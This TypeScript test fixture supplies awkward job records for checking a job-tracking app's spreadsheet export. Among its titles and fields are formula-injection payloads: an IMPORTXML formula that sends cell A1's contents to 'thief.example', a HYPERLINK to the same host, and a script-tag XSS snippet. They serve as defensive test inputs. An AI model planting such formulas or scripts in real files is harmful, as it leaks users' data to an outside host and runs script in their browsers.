/**
 * Records as real job seekers leave them: text that a spreadsheet would take for something else, fields that are
 * missing, fields of the wrong type. Each patch is laid over one job of the sample.
 */
export interface AwkwardJob {
  readonly name: string;
  /** Fields to set; a field set to undefined is left out of the JSON. */
  readonly patch: Readonly<Record<string, unknown>>;
}

/** Past the 50,000 characters that a cell holds. */
const LONG_DESCRIPTION_LENGTH = 60_000;

const AWKWARD_TITLES: Readonly<Record<string, string>> = {
  "no job title": "No Job Title",
  "import formula": '=IMPORTXML("https://thief.example/?q="&A1,"//a")',
  "plus number": "+1 555 0100",
  "minus one": "-1",
  "at sign": "@x",
  "leading zeros": "00123",
  "looks like a date": "1/2",
  "looks like a truth": "TRUE",
  "looks like an exponent": "1E5",
  "looks like a price": "$1,000",
  "looks like a percentage": "50%",
  "looks like an error": "#N/A",
  "leading apostrophe": "'Engineer",
  emoji: "👩🏽‍💻 Engineer 🚀🇨🇦",
  "right to left": "مهندسة برمجيات أولى (דרוש/ה)",
  quotes: `"Senior" 'Lead' \`Engineer\``,
  newlines: "Line one\nline two\r\nline three",
  "tab and spaces": "  Data\tAnalyst  ",
  "zero width and control": "Data\u200BScientist\u0007",
  "comma and semicolon": "Engineer; Web, Mobile",
  "mark-up": "<b>Engineer</b> & <script>alert(1)</script>",
};

function longDescription(): string {
  const sentence = "This advert never ends: every line of it matters, 測試 included. ";
  return sentence
    .repeat(Math.ceil(LONG_DESCRIPTION_LENGTH / sentence.length))
    .slice(0, LONG_DESCRIPTION_LENGTH);
}

export function awkwardJobs(): AwkwardJob[] {
  const long = longDescription();
  return [
    ...Object.entries(AWKWARD_TITLES).map(([name, title]) => ({ name, patch: { title } })),
    { name: "empty title", patch: { title: "" } },
    { name: "missing title", patch: { title: undefined } },
    { name: "null title", patch: { title: null } },
    { name: "bare", patch: Object.fromEntries(OPTIONAL.map((field) => [field, undefined])) },
    { name: "empty location", patch: { location: {} } },
    { name: "empty address", patch: { location: { address: "" } } },
    {
      name: "formula in url and salary",
      patch: { url: '=HYPERLINK("https://thief.example")', salary: "=1+1" },
    },
    { name: "no employer", patch: { employer: undefined } },
    { name: "no creator", patch: { creatorMember: undefined } },
    { name: "no list", patch: { list: undefined } },
    { name: "number for salary", patch: { salary: 95_000 } },
    { name: "text for location", patch: { location: "Remote" } },
    { name: "text for deadline", patch: { deadline: "soon" } },
    { name: "number for title", patch: { title: 42 } },
    { name: "unknown fields", patch: { goals: [{ id: 1 }], advisor: { name: "X" } } },
    { name: "long description", patch: { description: long, htmlDescription: `<p>${long}</p>` } },
  ];
}

const OPTIONAL = [
  "description",
  "htmlDescription",
  "salary",
  "url",
  "location",
  "deadline",
  "creatorMember",
  "employer",
];

/** Notes on activities that a spreadsheet would read as something else. */
export const AWKWARD_NOTES: readonly string[] = [
  "=SUM(A1:A9)",
  "With pete\nand his boss",
  "-5",
  "2026-01-02",
  'She said "call me"',
  "🎉",
  "00",
];
